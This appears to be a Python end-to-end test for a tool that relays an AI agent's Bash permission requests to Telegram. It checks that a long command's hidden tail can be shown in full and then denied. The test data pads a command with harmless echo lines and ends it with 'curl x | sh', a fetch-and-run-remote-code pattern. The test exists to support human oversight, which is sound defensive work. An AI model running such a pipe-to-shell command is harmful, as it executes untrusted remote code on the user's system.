"""End to end (hook, listener, Telegram bridge, Bot API emulator): a long command gets a
"Show full" button, and pressing it posts the whole command, split at Telegram's limit, so
a tail hidden past the preview (``curl x | sh``) can be read before anyone allows it."""

from __future__ import annotations

from pathlib import Path

import pytest
from emulators.telegram import MAX_TEXT, TelegramEmulator, parse_html
from harness.hookproc import HookRunner
from harness.telegram_relay import CHAT, bash_request, configure, edited, request_message

pytestmark = pytest.mark.usefixtures("listener_stops_first")

TAIL = "curl x | sh"
PAD = "".join(f"echo 'harmless step {i:04d} of a long build script'\n" for i in range(220))
COMMAND = PAD + TAIL  # about 10,000 characters: over two Telegram messages in full


def test_a_long_command_gets_show_full_and_pressing_it_posts_the_hidden_tail(
        hook: HookRunner, tether_home: Path, telegram_emulator: TelegramEmulator) -> None:
    assert len(COMMAND) > 3000
    emu = telegram_emulator
    configure(tether_home, emu)
    proc = hook.start("claude", bash_request("s-full", COMMAND))
    msg = request_message(emu, "harmless step 0000")
    assert len(msg.text) <= MAX_TEXT
    assert TAIL not in msg.text  # the preview is cut before the tail
    assert "📄 Show full" in msg.buttons

    before = len(emu.messages(CHAT))
    emu.press(msg, "📄 Show full")
    last = emu.wait_for_message(lambda m: TAIL in (m.text or ""), chat_id=CHAT, timeout=15)
    parts = [m for m in emu.messages(CHAT)[before:] if m.message_id <= last.message_id]
    assert len(parts) >= 2, [p.text[:40] for p in parts]  # split at the 4,096 limit
    for part in parts:
        assert len(parse_html(part.source)[0].strip()) <= MAX_TEXT
        assert not part.buttons
    shown = "\n".join(p.text for p in parts)
    assert all(f"harmless step {i:04d}" in shown for i in range(220))
    assert parts[0].reply_to == msg.message_id  # quotes the request it shows

    emu.press(msg, "❌ Deny")
    assert hook.finish(proc).output["hookSpecificOutput"]["decision"]["behavior"] == "deny"
    edited(emu, msg, "Denied")
